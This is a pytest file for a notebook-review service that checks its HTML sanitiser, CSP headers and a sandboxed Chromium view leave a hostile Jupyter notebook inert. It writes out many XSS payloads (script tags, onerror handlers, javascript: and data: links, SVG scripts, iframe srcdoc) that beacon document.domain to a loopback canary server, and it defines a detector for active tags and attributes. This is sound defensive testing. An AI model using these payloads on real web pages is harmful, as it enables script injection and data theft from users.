"""A notebook is hostile input: rendered for an officer, nothing in it may run.

The payloads try every usual way (``<script>``, ``onerror=``, ``javascript:`` links,
JavaScript outputs, SVG scripts, iframes) to flag the page and to call a canary server
this test starts on loopback. Checked three ways: the sanitised HTML, the service's answer
through a real hub (headers and body), and a real Chromium that opens the officer's page.
"""

from __future__ import annotations

import http.server
import threading
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import nbformat
import pytest
from cleanroom.airlock.render import notebook_html, sanitise

from tests.chromium import chromium

from .hub import PROJECT, Hub
from .test_hub_api import submit


class Canary:
    """A loopback HTTP server that counts every request a payload manages to make."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        canary = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                canary.hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


@pytest.fixture
def canary() -> Iterator[Canary]:
    c = Canary()
    yield c
    c.close()


def hostile_notebook(canary: str) -> bytes:
    """A notebook whose every cell and output tries to run code."""
    flag = "document.documentElement.setAttribute('data-pwned','1');"
    call = f"new Image().src='{canary}/hit?'+document.domain;"
    nb = nbformat.v4.new_notebook()
    nb.cells.append(
        nbformat.v4.new_markdown_cell(
            f"# Results\n<script>{flag}{call}</script>\n"
            f'<img src="x" onerror="{flag}{call}">\n'
            f"[click me](javascript:{flag})\n"
            f'<a href="javascript:{flag}{call}" id="jslink">link</a>\n'
            f'<svg onload="{flag}"><script>{call}</script></svg>\n'
            f'<iframe srcdoc="<script>{call}</script>"></iframe>\n'
            f'<div style="background:url({canary}/css)">styled</div>'
        )
    )
    code = nbformat.v4.new_code_cell("display(HTML(payload))")
    code.outputs = [
        nbformat.v4.new_output(
            "display_data",
            data={
                "text/html": f'<b onmouseover="{flag}">hover</b><script>{flag}{call}</script>'
                f'<img src="{canary}/img">',
                "text/plain": "<HTML>",
            },
        ),
        nbformat.v4.new_output(
            "display_data", data={"application/javascript": f"{flag}{call}", "text/plain": "js"}
        ),
        nbformat.v4.new_output(
            "display_data",
            data={
                "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{call}</script></svg>'
            },
        ),
        nbformat.v4.new_output("stream", name="stdout", text="<script>alert(1)</script>\n"),
    ]
    nb.cells.append(code)
    return nbformat.writes(nb).encode()


ACTIVE_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "frame",
    "base",
    "form",
    "style",
    "link",
    "meta",
}


def active_parts(html: str) -> list[str]:
    """Every tag or attribute in ``html`` that could run, load or navigate on its own."""
    found: list[str] = []

    class Finder(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in ACTIVE_TAGS:
                found.append(f"<{tag}>")
            for name, value in attrs:
                v = (value or "").strip().lower()
                if name.startswith("on") or name in {"srcdoc", "style", "formaction"}:
                    found.append(f"{tag} {name}=")
                if name in {"href", "src", "xlink:href", "action"} and (
                    v.startswith(("javascript:", "vbscript:", "http:", "https:", "//"))
                    or (v.startswith("data:") and (tag, v[:11]) != ("img", "data:image/"))
                ):
                    found.append(f"{tag} {name}={v[:30]}")

    Finder().feed(html)
    return found


def test_sanitised_html_is_inert() -> None:
    html = notebook_html(hostile_notebook("http://127.0.0.1:9"))
    assert active_parts(html) == []
    assert "127.0.0.1:9" not in html  # no remote image, no CSS url survived
    assert "Results" in html and "hover" in html  # the harmless content is still there
    # Text that merely shows a tag is escaped, not dropped.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


@pytest.mark.parametrize(
    "payload",
    [
        '<img src="data:text/html,<script>alert(1)</script>">',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<form action="/x"><button>go</button></form>',
        '<object data="x"></object><embed src="x">',
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    ],
)
def test_sanitiser_drops_other_vectors(payload: str) -> None:
    out = sanitise(payload)
    assert active_parts(out) == [], out
    assert 'href="/' not in out


def _submit_notebook(hub: Hub, canary: Canary) -> str:
    token = hub.workspace_token("alice", PROJECT)
    data = hostile_notebook(canary.url)
    r = submit(hub.submit_url, token, {"work/analysis.ipynb": data}, why=f"nb {time.time()}")
    assert r.status_code == 201, r.text
    assert r.json()["files"][0]["type"] == "application/x-ipynb+json"
    return str(r.json()["id"])


def test_officer_page_serves_the_notebook_inert(hub: Hub, canary: Canary) -> None:
    rid = _submit_notebook(hub, canary)
    olga = hub.browser("olga")
    base = f"{hub.service_url}requests/{rid}"
    page = olga.get(f"{base}/file?path=work/analysis.ipynb")
    assert page.status_code == 200
    assert '<iframe class="notebook" sandbox ' in page.text
    assert "script-src" not in page.headers["Content-Security-Policy"]
    assert "default-src 'none'" in page.headers["Content-Security-Policy"]
    nb = olga.get(f"{base}/notebook?path=work/analysis.ipynb")
    assert nb.status_code == 200
    csp = nb.headers["Content-Security-Policy"]
    assert csp.startswith("sandbox;") and "default-src 'none'" in csp and "script-src" not in csp
    assert active_parts(nb.text.split("<main>", 1)[1]) == []
    assert canary.url not in nb.text
    # A researcher never gets the rendering of an unreleased notebook.
    assert hub.browser("alice").get(f"{base}/notebook?path=work/analysis.ipynb").status_code == 403


def _payload_ran(driver: Any) -> bool:
    """Whether any payload of the hostile notebook ran: its flag, or an alert."""
    from selenium.common.exceptions import NoAlertPresentException
    from selenium.webdriver.common.by import By

    try:
        _ = driver.switch_to.alert.text
        return True
    except NoAlertPresentException:
        pass
    return driver.find_element(By.TAG_NAME, "html").get_attribute("data-pwned") is not None


def _nothing_runs(driver: Any) -> None:
    """Watch the loaded page for a moment: the check ends at once if a payload runs.

    That nothing happens can only be observed for a while; the wait is on the condition
    (a payload's flag or alert), so a page that runs one fails at once, not at the end.
    """
    from selenium.common.exceptions import TimeoutException
    from selenium.webdriver.support.ui import WebDriverWait

    with pytest.raises(TimeoutException):
        WebDriverWait(driver, 1.5, poll_frequency=0.1).until(_payload_ran)


@pytest.mark.browser
def test_chromium_runs_nothing_from_the_notebook(hub: Hub, canary: Canary) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as ec
    from selenium.webdriver.support.ui import WebDriverWait

    rid = _submit_notebook(hub, canary)
    driver = chromium()
    wait = WebDriverWait(driver, 30)
    try:
        driver.get(f"{hub.url}/hub/login")
        driver.find_element(By.NAME, "username").send_keys("olga")
        driver.find_element(By.NAME, "password").send_keys("any")
        driver.find_element(By.CSS_SELECTOR, "form").submit()
        wait.until(lambda d: "/hub/login" not in d.current_url)
        # The first visit to the airlock runs the OAuth dance and lands on the home page.
        driver.get(hub.service_url)
        wait.until(ec.text_to_be_present_in_element((By.TAG_NAME, "header"), "cleanroom airlock"))
        # The review page: the notebook is framed, sandboxed.
        driver.get(f"{hub.service_url}requests/{rid}/file?path=work/analysis.ipynb")
        frame = wait.until(ec.presence_of_element_located((By.CSS_SELECTOR, "iframe.notebook")))
        assert frame.get_attribute("sandbox") is not None
        _nothing_runs(driver)
        # The rendering opened on its own: its text is there, its scripts never ran.
        driver.get(f"{hub.service_url}requests/{rid}/notebook?path=work/analysis.ipynb")
        heading = wait.until(ec.presence_of_element_located((By.TAG_NAME, "h1")))
        assert heading.text.strip().startswith("Results")
        _nothing_runs(driver)
        # Inside the sandboxed frame, too: the harmless content rendered, the flag never set.
        driver.get(f"{hub.service_url}requests/{rid}/file?path=work/analysis.ipynb")
        frame = wait.until(ec.presence_of_element_located((By.CSS_SELECTOR, "iframe.notebook")))
        driver.switch_to.frame(frame)
        wait.until(ec.text_to_be_present_in_element((By.TAG_NAME, "body"), "hover"))
        assert driver.find_element(By.TAG_NAME, "html").get_attribute("data-pwned") is None
        links = driver.find_elements(By.LINK_TEXT, "link")
        for link in links:  # a stripped javascript: link goes nowhere when clicked
            link.click()
        driver.switch_to.default_content()
        _nothing_runs(driver)
    finally:
        driver.quit()
    assert canary.hits == [], f"a payload reached the canary: {canary.hits}"


def test_rendering_is_remembered_by_hash(monkeypatch: pytest.MonkeyPatch) -> None:
    from cleanroom.airlock import render

    data = hostile_notebook("http://127.0.0.1:9")
    first = render.notebook_html_cached("ab" * 32, data)
    assert render.notebook_html_cached("ab" * 32, b"not read again") == first
    # Only the cache's bound is under test now: skip nbconvert.
    monkeypatch.setattr(render, "notebook_html", lambda data: "<p>x</p>")
    for i in range(render._NOTEBOOK_CACHE_SIZE + 5):
        render.notebook_html_cached(f"{i:064x}", b"")
    assert len(render._NOTEBOOK_CACHE) == render._NOTEBOOK_CACHE_SIZE
